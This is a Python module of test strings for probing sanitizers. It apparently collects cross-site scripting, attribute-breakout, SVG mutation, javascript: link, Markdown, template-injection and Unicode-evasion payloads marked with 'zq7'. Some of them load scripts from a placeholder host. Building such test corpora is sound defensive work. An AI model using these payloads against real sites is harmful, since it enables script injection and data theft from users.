"""What attackers write into fields, of our own making; whatever is done with it, it is words.

Each string tries to call ``alert`` or to bring an element or an attribute that is called
``zq7``, so that a page which takes it for markup shows it. Every one holds ``SIGN``, by which
the pages that show it are found.
"""

from typing import Final

SIGN: Final = "zq7"
MARKUP: Final = (
    "<script>alert('zq7')</script>",
    "<SCRIPT SRC=//zq7.invalid/a.js></SCRIPT>",
    "<scr<script>ipt>alert('zq7')</scr</script>ipt>",
    "<script\x0c>alert('zq7')</script\x0c>",
    "<img src=x onerror=alert('zq7')>",
    "<img/src/onerror=alert('zq7')//",
    "<img src='x' onerror='alert(`zq7`)'",
    "<body onload=alert('zq7')>",
    "<input autofocus onfocus=alert('zq7')>",
    "<details open ontoggle=alert('zq7')>zq7</details>",
    "<video><source onerror=alert('zq7')></video>",
    "<audio src onloadstart=alert('zq7')>",
    "<marquee onstart=alert('zq7')>zq7</marquee>",
    "<iframe srcdoc='<script>parent.alert(`zq7`)</script>'></iframe>",
    "<iframe src=javascript:alert('zq7')>",
    "<object data=javascript:alert('zq7')></object>",
    "<embed src=javascript:alert('zq7')>",
    "<base href=//zq7.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(`zq7`)'>",
    "<link rel=stylesheet href=//zq7.invalid/a.css>",
    "<style>*{display:none}</style><b zq7>",
    "<form action=//zq7.invalid><button zq7>Go on</button></form>",
    "<zq7>hello</zq7>",
    "<b zq7=1 style=position:fixed;inset:0>over all</b>",
    "<template shadowrootmode=open><zq7></zq7></template>",
)
"""Elements where text is expected."""
BREAKING_OUT: Final = (
    "\" onmouseover=alert('zq7') zq7=\"",
    "' onfocus=alert('zq7') autofocus zq7='",
    "\"><script>alert('zq7')</script>",
    "'><img src=x onerror=alert('zq7')>",
    "` onerror=alert('zq7') zq7=`",
    "</textarea><script>alert('zq7')</script>",
    "</title><script>alert('zq7')</script>",
    "</select></option><img src=x onerror=alert('zq7')>",
    "</style></script><script>alert('zq7')</script>",
    "--><script>alert('zq7')</script><!--",
    "]]><script>alert('zq7')</script>",
    "</main></body></html><script>alert('zq7')</script>",
    "zq7 autofocus onfocus=alert('zq7') x",
    '\\"><zq7>\\',
    '";alert("zq7");//',
    "');alert('zq7');//",
)
"""Out of an attribute, an element or a string of a script."""
SVG_AND_MUTATION: Final = (
    "<svg onload=alert('zq7')>",
    "<svg><script>alert&#40;'zq7'&#41;</script></svg>",
    "<svg><a xlink:href=javascript:alert('zq7')><text y=20>zq7</text></a></svg>",
    "<svg><animate onbegin=alert('zq7') attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=alert('zq7')></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('zq7')>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('zq7')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('zq7')>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert('zq7')>\">",
    "<math><annotation-xml encoding=text/html><zq7 onclick=alert('zq7')>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert('zq7')>\">",
    "<table><tr><td zq7></table><img src=x onerror=alert('zq7')>",
)
"""What a cleaner and a browser read in two ways."""
LINKS: Final = (
    "javascript:alert('zq7')",
    "JaVaScRiPt:alert('zq7')",
    "java\tscript:alert('zq7')",
    "\x01javascript:alert('zq7')",
    "javascript&colon;alert('zq7')",
    "&#106;avascript:alert('zq7')",
    "data:text/html,<script>alert('zq7')</script>",
    "vbscript:msgbox('zq7')",
    "//zq7.invalid/\\@portal",
    "https://portal.invalid@zq7.invalid/",
)
"""Addresses that run, or that lead elsewhere than they say."""
MARKDOWN: Final = (
    "[zq7](javascript:alert('zq7'))",
    "[zq7](java&#10;script:alert('zq7'))",
    "[zq7]( \x01javascript:alert('zq7'))",
    "[zq7]: javascript:alert('zq7')\n\n[zq7]",
    "<javascript:alert('zq7')>",
    "![zq7](x\" onerror=\"alert('zq7'))",
    "![zq7](data:image/svg+xml,<svg onload=alert('zq7')>)",
    "![zq7](https://zq7.invalid/pixel.png)",
    "[zq7](https://zq7.invalid \"' onmouseover=alert('zq7') zq7=\")",
    "[zq7](data:text/html;base64,PHNjcmlwdD5hbGVydCgienE3Iik8L3NjcmlwdD4=)",
    "`<img src=x onerror=alert('zq7')>`",
    "```zq7\" onclick=\"alert('zq7')\n<img src=x onerror=alert('zq7')>\n```",
    "| <img src=x onerror=alert('zq7')> |\n|---|\n| </td><zq7> |",
    "<div>\n\n<img src=x onerror=alert('zq7')>\n\n</div>",
    "<!-- zq7 --><img src=x onerror=alert('zq7')>",
    "[zq7](<javascript:alert('zq7')>)",
)
"""Tricks of Markdown."""
TEMPLATES: Final = (
    "{{ 1337 * 1337 }} zq7",
    "{% set zq7 = 1 %}{{ config }}{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }} ${1337*1337} #{1337*1337} <%= 1337*1337 %> zq7",
    "{user.password_hash} {0.__class__} {zq7!r} %(zq7)s %s%n",
    "{{constructor.constructor('alert(`zq7`)')()}}",
)
"""What a template would work out: 1337 * 1337 is 1787569."""
UNICODE: Final = (
    "\uff1cscript\uff1ealert('zq7')\uff1c/script\uff1e",
    "\u02bczq7\u02bc onfocus\u02f8alert",
    "+ADw-script+AD4-alert('zq7')+ADw-/script+AD4-",
    "\u202e<zq7>\u2066\u2069\u200b\u200d\ufeff",
    "zq7\u0130\u0131\u017f\u212a<\u017fcript>alert('zq7')</\u017fcript>",
    "zq7\x00<scr\x00ipt>alert('zq7')</scr\x00ipt>",
    "zq7\x1b[31m\x07\x08<zq7>",
    "zq7\ufffe\uffff\U000e0001<zq7>",
    "zq7" + "\u0300" * 40 + "<zq7>",
)
"""Signs that are folded, turned round, cut off or overlooked."""
GROUPS: Final = {
    "markup": MARKUP,
    "breaking-out": BREAKING_OUT,
    "svg-and-mutation": SVG_AND_MUTATION,
    "links": LINKS,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "unicode": UNICODE,
}
WORKED_OUT: Final = "1787569"
SHORT: Final = (
    "[zq7](javascript:alert('zq7')) ![zq7](x\" onerror=\"alert('zq7')) {{ 1337 * 1337 }} "
    "\"'></textarea></title><script>alert('zq7')</script><img src=x onerror=alert('zq7')><zq7>"
)
"""One string of several classes at once, for the run that everybody waits for."""
